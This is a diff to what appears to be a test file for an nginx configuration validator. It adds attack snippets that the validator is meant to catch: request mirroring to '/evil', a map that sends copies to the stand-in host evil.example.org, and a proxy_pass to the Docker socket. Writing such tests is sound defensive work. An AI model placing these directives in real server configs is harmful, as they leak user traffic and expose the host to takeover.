@@ -35,6 +35,11 @@ const attacks: Readonly<Record<string, string>> = {
   'splits requests by a text of the client': inHttp('split_clients $arg_a $match_a { * @match_a; }'),
   'chooses a location by another variable': inLocation('error_page 418 = $arg_a;'),
   'passes requests to a host from a fallback': inHttp('map $uri $fallback_a { default unix:/x.sock; }'),
+  'copies requests to a location of its own': inLocation('mirror /evil;'),
+  'passes copies to a host from a map': inHttp('map $uri $mirrored_uri { default @evil.example.org/; }'),
+  'passes copies to another socket': inLocation(
+    'proxy_pass http://unix:/var/run/docker.sock:/0123456789abcdef$request_uri;',
+  ),
   'sets a file name with an expression': inMap('"~(?<root_detour>.*)" 1;'),
   'sets a file name with an expression in another syntax': inMap('"~(?P<root_detour>.*)" 1;'),
   'sets a file name with a server name': inServer('server_name "~^(?<detour>.*)$";'),
